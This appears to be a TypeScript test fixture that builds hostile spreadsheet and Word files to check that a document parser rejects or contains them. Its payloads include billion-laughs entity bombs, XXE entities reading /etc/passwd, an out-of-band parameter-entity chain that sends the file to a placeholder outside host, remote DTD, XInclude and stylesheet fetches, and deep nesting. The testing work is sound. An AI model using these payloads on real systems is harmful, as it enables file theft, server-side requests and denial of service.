import { makeDocx, paragraph } from '@tests/support/docx';
import { oneSheet, xlsxParts } from '@tests/support/xlsx';
import { makeZip } from '@tests/support/zip';
import { accepted, damaged, elsewhere, type HostileFile, unsafe } from './hostile-file';
import { plainXlsx } from './plain-files';

/** A workbook with one of its parts exchanged. */
function workbookWith(name: string, data: string | Uint8Array): Buffer {
  const parts = xlsxParts({ sheets: [{ name: 'A', xml: '<sheetData/>' }] });
  return makeZip(parts.map((part) => (part.name === name ? { name, data } : part)));
}

const sheet = 'xl/worksheets/sheet1.xml';
const head = '<?xml version="1.0" encoding="UTF-8"?>';
const cellOf = (content: string) =>
  `<worksheet><sheetData><row r="1"><c r="A1" t="str"><v>${content}</v></c></row></sheetData></worksheet>`;

const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

/** Parts in which each kind of file is looked for declarations; every part that is read goes through the same walk. */
const declarations: readonly [name: string, what: string, part: string, xml: () => string][] = [
  [
    'a billion laughs in a sheet',
    'Entities of entities that unfold to gigabytes.',
    sheet,
    () => `${head}<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]>${cellOf('&l9;')}`,
  ],
  [
    'a billion laughs in the shared strings',
    'The same where the texts of a workbook stand.',
    'xl/sharedStrings.xml',
    () => `${head}<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]><sst><si><t>&l9;</t></si></sst>`,
  ],
  [
    'a billion laughs in the relationships',
    'The same in a part that is read to find the others.',
    'xl/_rels/workbook.xml.rels',
    () => `${head}<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]><Relationships>&l9;</Relationships>`,
  ],
  [
    'one large entity many times',
    'A hundred kilobytes of text, called ten thousand times.',
    sheet,
    () => `${head}<!DOCTYPE x [<!ENTITY a "${'a'.repeat(100_000)}">]>${cellOf('&a;'.repeat(10_000))}`,
  ],
  [
    'an entity that is a file of the machine',
    'The text of a cell is said to stand in /etc/passwd.',
    sheet,
    () => `${head}<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${cellOf('&f;')}`,
  ],
  [
    'a document type that lies elsewhere',
    'The rules of the part are to be fetched from a server inside the network.',
    'xl/workbook.xml',
    () => `${head}<!DOCTYPE x SYSTEM "${elsewhere.address}/x.dtd"><workbook><sheets/></workbook>`,
  ],
  [
    'parameter entities that send a file away',
    'Declarations that read a file and put it into the address of a request.',
    sheet,
    () =>
      `${head}<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % g SYSTEM "${elsewhere.address}/x.dtd">%g;]>${cellOf('1')}`,
  ],
  [
    'an empty document type',
    'Harmless by itself; no program writes one into an Office file.',
    sheet,
    () => `${head}<!DOCTYPE worksheet>${cellOf('1')}`,
  ],
];

const deep = 100_000;

export const xmlFiles: readonly HostileFile[] = [
  ...declarations.map(
    ([name, what, part, xml]): HostileFile => ({
      name,
      what,
      slot: 'excel',
      fileName: 'entities.xlsx',
      make: () => workbookWith(part, xml()),
      expected: unsafe('workbook'),
    }),
  ),
  {
    name: 'a document type in the other Unicode',
    what: 'The same declarations in UTF-16, past whoever looks for them byte by byte.',
    slot: 'excel',
    fileName: 'utf16.xlsx',
    make: () =>
      workbookWith(
        sheet,
        Buffer.from(
          `\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]>${cellOf('&a;')}`,
          'utf16le',
        ),
      ),
    expected: unsafe('workbook'),
  },
  {
    name: 'an entity that nobody declared',
    what: 'A call of an entity without its declaration.',
    slot: 'excel',
    fileName: 'entity.xlsx',
    make: () => workbookWith(sheet, cellOf('&passwd;')),
    expected: damaged('workbook'),
  },
  {
    name: 'a part a hundred thousand levels deep',
    what: 'Elements within elements, for readers that call themselves.',
    slot: 'summary',
    fileName: 'deep.docx',
    make: () => makeDocx({ body: `${'<w:p>'.repeat(deep)}${'</w:p>'.repeat(deep)}` }),
    expected: unsafe('summary'),
  },
  {
    name: 'a cell with fifty thousand attributes',
    what: 'One element that carries a list.',
    slot: 'excel',
    fileName: 'attributes.xlsx',
    make: () => {
      const attributes = Array.from({ length: 50_000 }, (_, i) => `a${i}="${i}"`).join(' ');
      return oneSheet(`<row r="1"><c r="A1" ${attributes} t="str"><v>Lift</v></c></row>`);
    },
    expected: accepted([], { shows: ['Lift'] }),
  },
  {
    name: 'NUL and halves of characters as references',
    what: 'References to characters that are none: &#0; and &#xD83D;.',
    slot: 'excel',
    fileName: 'references.xlsx',
    make: () => workbookWith(sheet, cellOf('&#0;&#xD83D;')),
    expected: damaged('workbook'),
  },
  {
    name: 'bytes that are no UTF-8',
    what: 'Halves of characters as bytes, and a NUL between letters.',
    slot: 'excel',
    fileName: 'bytes.xlsx',
    make: () =>
      workbookWith(
        sheet,
        Buffer.concat([Buffer.from(cellOf('a').slice(0, -50)), Buffer.from([0xed, 0xa0, 0xbd, 0xff, 0])]),
      ),
    expected: damaged('workbook'),
  },
  {
    name: 'an encoding that nobody has',
    what: 'The part says that it is in UTF-7, in which no byte looks like a bracket.',
    slot: 'excel',
    fileName: 'utf7.xlsx',
    make: () => workbookWith(sheet, `<?xml version="1.0" encoding="utf-7"?>${cellOf('1')}`),
    expected: damaged('workbook'),
  },
  {
    name: 'a part that is cut in the middle of an element',
    what: 'Whole as an entry of the archive, half as XML.',
    slot: 'excel',
    fileName: 'half.xlsx',
    make: () => workbookWith(sheet, cellOf('1').slice(0, -30)),
    expected: damaged('workbook'),
  },
  {
    name: 'a document type in the properties',
    what: 'Entities in a part that is never read, because it tells who the author is.',
    slot: 'excel',
    fileName: 'properties.xlsx',
    make: () =>
      oneSheet('<row r="1"><c r="A1" t="str"><v>Lift</v></c></row>', {
        parts: [
          {
            name: 'docProps/core.xml',
            data: `${head}<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]><cp:coreProperties>&l9;</cp:coreProperties>`,
          },
        ],
      }),
    expected: accepted([], { shows: ['Lift'], hides: ['lol'] }),
  },
  {
    name: 'instructions to programs and inclusions',
    what: 'A style sheet and an inclusion that are to be fetched from a server.',
    slot: 'summary',
    fileName: 'include.docx',
    make: () => {
      const include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>';
      const style = `<?xml-stylesheet href="${elsewhere.address}/x.xsl" type="text/xsl"?>`;
      return makeDocx({ body: `${style}${include}${paragraph('Lift')}` });
    },
    expected: accepted([], { shows: ['Lift'], hides: ['root:'] }),
  },
  {
    name: 'relationships that lead in circles',
    what: 'The workbook names itself as its strings, its styles and its only sheet.',
    slot: 'excel',
    fileName: 'circle.xlsx',
    make: () => {
      const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
      const rels = ['worksheet', 'sharedStrings', 'styles', 'person']
        .map((type, i) => `<Relationship Id="rId${i + 1}" Type="${office}/${type}" Target="workbook.xml"/>`)
        .join('');
      return workbookWith('xl/_rels/workbook.xml.rels', `<Relationships>${rels}</Relationships>`);
    },
    expected: accepted(['no-text']),
  },
  {
    name: 'a workbook behind two million blanks',
    what: 'Whitespace where nothing has to be.',
    slot: 'excel',
    fileName: 'blanks.xlsx',
    make: () => workbookWith(sheet, `${head}${' '.repeat(2_000_000)}${cellOf('Lift')}`),
    expected: accepted([], { shows: ['Lift'] }),
  },
  {
    name: 'a workbook without a fault',
    what: 'The counterpart: what the others are made from is taken without a word.',
    slot: 'excel',
    fileName: 'plain.xlsx',
    make: plainXlsx,
    expected: accepted([], { shows: ['Lift', '0.417'] }),
  },
];
